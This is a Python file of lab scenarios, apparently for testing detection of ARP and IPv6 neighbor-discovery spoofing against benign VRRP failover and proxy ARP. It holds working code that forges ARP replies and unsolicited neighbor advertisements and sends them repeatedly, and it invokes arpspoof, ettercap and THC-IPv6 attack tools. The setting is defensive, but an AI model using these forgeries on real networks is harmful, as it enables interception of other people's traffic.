"""False ARP and neighbor advertisements, seen at the victim and at the router; and what moves or answers for addresses
rightly: VRRP there and back, with a shared MAC and without, and a router that answers for hosts kept apart."""
import os
import socket
import struct
import time

import peers
from net import CLIENT, CLIENT6, ROUTER, SERVER, SERVER6
from peers import expect
from runner import scenario
from scenarios.lan import GATEWAY, switch
from scenarios.mitm import TLS12, false_ca
from scenarios.mitm_more import switched

ATTACKER, ATTACKER6, ROUTER6 = "10.20.1.66", "2001:db8:20:1::66", "2001:db8:20:1::1"
MAC = {"c": bytes.fromhex("5254000a010b"), "f": bytes.fromhex("5254000a0101"), "a": bytes.fromhex("5254000a0166")}


def switched6(lab):
    """The switch of mitm_more, with IPv6 on all three of it."""
    switched(lab, ipv6=True)
    for ns, dev, address in (("c", "c0", CLIENT6), ("f", "f0", ROUTER6), ("a", "a0", ATTACKER6)):
        lab.ip(ns, "-6", "addr", "add", f"{address}/64", "dev", dev, "nodad")
    for ns in "ca":
        lab.ip(ns, "-6", "route", "add", "default", "via", ROUTER6)
    lab.sysctl("a", "net.ipv6.conf.all.forwarding", 1)
    lab.touch("c", CLIENT6, SERVER6)
    lab.touch("a", ATTACKER6, SERVER6)


def wire(lab, ns="a", dev="a0"):
    s = lab.socket(ns, socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((dev, 0))
    return s


def arp_reply(to, told, claimed, own=MAC["a"]):
    return (to + own + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton(claimed)
            + to + socket.inet_aton(told))


def advertisement(to, told, claimed, own=MAC["a"], flags=0x20000000):
    """An unasked advertisement to one host that overrides what it knows (RFC 4861 4.4); from the claimed address."""
    packed = socket.inet_pton(socket.AF_INET6, claimed)
    ends = packed + socket.inet_pton(socket.AF_INET6, told)
    body = struct.pack("!BBHI", 136, 0, 0, flags) + packed + b"\x02\x01" + own
    pseudo = ends + struct.pack("!II", len(body), 58) + body
    total = sum(struct.unpack(f"!{len(pseudo) // 2}H", pseudo))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    body = body[:2] + struct.pack("!H", 0xffff - total) + body[4:]
    return to + own + b"\x86\xdd" + struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + ends + body


def poison(lab, frames, seconds, every=0.5):
    """Sends the frames again and again in a thread of its own."""
    s = wire(lab)

    def again():
        for _ in range(int(seconds / every)):
            if lab.stopping.is_set():
                return
            for frame in frames:
                s.send(frame)
            time.sleep(every)
    lab.thread(again)


def ask_each(lab, count=3, pause=0.9, **options):
    for _ in range(count):
        expect(peers.http(lab, **options), "200")
        time.sleep(pause)


def watched6(lab, known=True):
    """The switch with a web server over IPv6, seen at the client, whose neighbor table is empty unless known."""
    switched6(lab)
    peers.nginx(lab, peers.http_server(lab, ip=SERVER6))
    lab.capture_on("c", "c0", expression="ip6")
    time.sleep(0.15)
    if not known:
        lab.ip("c", "-6", "neigh", "flush", "dev", "c0")
    ask_each(lab, 1, ip=SERVER6)


def watched4(lab, forward=True):
    """The same over IPv4; the third host forwards, or not."""
    switched(lab)
    peers.nginx(lab, peers.http_server(lab))
    if not forward:
        lab.sysctl("a", "net.ipv4.ip_forward", 0)
    lab.capture_on("c", "c0")
    time.sleep(0.15)
    lab.ip("c", "neigh", "flush", "dev", "c0")
    ask_each(lab, 1)


# --- false answers ----------------------------------------------------------------------------------------------------
@scenario("arp-victim", "arpspoof tells the client alone that it is the router; the answers come back directly; seen at the client")
def arp_victim(lab):
    watched4(lab)
    child = lab.spawn("a", "arpspoof", "-i", "a0", "-t", CLIENT, ROUTER)
    time.sleep(1.5)
    ask_each(lab, 6, 1.2)
    lab.end(child)
    lab.end_captures()


@scenario("arp-ettercap", "ettercap stands between client and router and passes frames on itself, TTL untouched; seen at the client")
def arp_ettercap(lab):
    watched4(lab, forward=False)
    child = lab.spawn("a", "ettercap", "-Tq", "-i", "a0", "-M", "arp:remote", f"/{CLIENT}//", f"/{ROUTER}//")
    time.sleep(4)
    ask_each(lab, 4)
    lab.end(child)
    lab.end_captures()


@scenario("arp-router", "a program of six lines tells client and router each that it is the other, every half second; seen at the router")
def arp_router(lab):
    switched(lab)
    peers.nginx(lab, peers.http_server(lab))
    lab.capture_on("f", "f0")
    time.sleep(0.15)
    ask_each(lab, 1)
    poison(lab, [arp_reply(MAC["c"], CLIENT, ROUTER), arp_reply(MAC["f"], ROUTER, CLIENT)], 6)
    time.sleep(1)
    ask_each(lab, 4)
    lab.end_captures()


@scenario("ndp-victim", "unasked neighbor advertisements to client and router, each every half second, and a kernel that forwards; "
                        "seen at the client")
def ndp_victim(lab):
    watched6(lab, known=False)
    poison(lab, [advertisement(MAC["c"], CLIENT6, ROUTER6), advertisement(MAC["f"], ROUTER6, CLIENT6)], 6)
    time.sleep(1)
    ask_each(lab, 4, ip=SERVER6)
    lab.end_captures()


@scenario("ndp-parasite", "parasite6 answers every neighbor solicitation in the asked one's place; seen at the client")
def ndp_parasite(lab):
    watched6(lab)
    child = lab.spawn("a", "atk6-parasite6", "-l", "-R", "a0")
    time.sleep(1)
    for _ in range(4):
        lab.ip("c", "-6", "neigh", "flush", "dev", "c0")
        ask_each(lab, 1, ip=SERVER6)
    lab.end(child)
    lab.end_captures()


@scenario("ndp-fake", "fake_advertise6 tells the client again and again that it is the router; seen at the client")
def ndp_fake(lab):
    watched6(lab, known=False)
    child = lab.spawn("a", "atk6-fake_advertise6", "-w", "1", "a0", ROUTER6, CLIENT6)
    time.sleep(1.5)
    ask_each(lab, 4, ip=SERVER6)
    lab.end(child)
    lab.end_captures()


# --- rightly so ---------------------------------------------------------------------------------------------------------
def keepalived(lab, ns, dev, state, priority, extra=""):
    path = os.path.join(lab.work, f"{lab.name}.{ns}.keepalived")
    with open(path, "w") as f:
        f.write(f"""global_defs {{
  vrrp_garp_master_delay 1
  vrrp_garp_master_repeat 3
}}
vrrp_instance invoices {{
  state {state}
  interface {dev}
  virtual_router_id 20
  priority {priority}
  advert_int 1
  {extra}
  virtual_ipaddress {{
    {SERVER}/24
  }}
}}
""")
    return lab.spawn(ns, "keepalived", "-n", "-l", "-D", "-P", "-f", path, "-p", path + ".pid", "-r", path + ".vrrp")


def pair_of_machines(lab):
    """Server and standby on one switch, each with an address of its own; the standby is another kind of system."""
    false_ca(lab, cn="Second Supplier CA", org="Second Supplier")
    lab.pki.make("v-leaf", "inv.example.cn", names=["inv.example.cn"])
    lab.start()
    switch(lab)
    lab.ip("s", "addr", "flush", "dev", "s0")
    for ns, own, dev in (("s", "198.51.100.30", "s0"), ("x", "198.51.100.31", "x0")):
        lab.ip(ns, "addr", "add", f"{own}/24", "dev", dev)
        lab.ip(ns, "route", "replace", "default", "via", GATEWAY)
        lab.sysctl(ns, "net.ipv4.ip_nonlocal_bind", 1)
    lab.sysctl("x", "net.ipv4.ip_default_ttl", 121)
    lab.sysctl("x", "net.ipv4.tcp_timestamps", 0)
    peers.nginx(lab, peers.tls_server(lab), ns="s")
    peers.nginx(lab, peers.tls_server(lab, cert="v-leaf"), ns="x")


def there_and_back(lab, extra=""):
    pair_of_machines(lab)
    keepalived(lab, "x", "x0", "BACKUP", 90, extra)
    master = keepalived(lab, "s", "s0", "MASTER", 110, extra)
    time.sleep(4)
    lab.capture_on("f", "f1")
    time.sleep(0.15)
    context = peers.client_context(lab, verify=False, high=TLS12)

    def ask(count):
        for _ in range(count):
            expect(peers.https(lab, context=context), "200")
            time.sleep(0.2)
    ask(2)
    lab.end(master)
    time.sleep(4)
    ask(2)
    keepalived(lab, "s", "s0", "MASTER", 110, extra)
    time.sleep(4)
    # the standby's own monitoring asks for the address that it had a moment ago
    lab.ip("x", "neigh", "flush", "dev", "x0")
    s = peers.try_connect(lab, 443, ns="x", src="198.51.100.31")
    if s:
        s.close()
    ask(2)
    lab.end_captures()


@scenario("vrrp-changed-mac", "keepalived moves the address to a standby of another kind and back, each with its own MAC; seen at the router: healthy")
def vrrp_changed_mac(lab):
    there_and_back(lab)


@scenario("vrrp-shared-mac", "the same with the virtual router's MAC (use_vmac); seen at the router: healthy")
def vrrp_shared_mac(lab):
    there_and_back(lab, "use_vmac")


@scenario("proxy-arp", "two hosts kept apart by the switch reach each other through the router, which answers ARP for both; "
                       "seen at the router: healthy")
def proxy_arp(lab):
    switched(lab)
    for dev in ("w0", "w2"):
        lab.exec("w", "bridge", "link", "set", "dev", dev, "isolated", "on")
    lab.sysctl("f", "net.ipv4.conf.f0.proxy_arp_pvlan", 1)
    lab.sysctl("f", "net.ipv4.conf.f0.send_redirects", 0)
    lab.sysctl("f", "net.ipv4.conf.all.send_redirects", 0)
    peers.listen(lab, 8091, peers.http_handler(), ip=ATTACKER, ns="a")
    peers.nginx(lab, peers.http_server(lab))
    lab.capture_on("f", "f0")
    time.sleep(0.15)
    for _ in range(4):
        for ns, dev in (("c", "c0"), ("a", "a0")):
            lab.ip(ns, "neigh", "flush", "dev", dev)
        expect(peers.http(lab), "200")
        expect(peers.http(lab, 8091, ip=ATTACKER), "200")
        time.sleep(0.4)
    lab.end_captures()
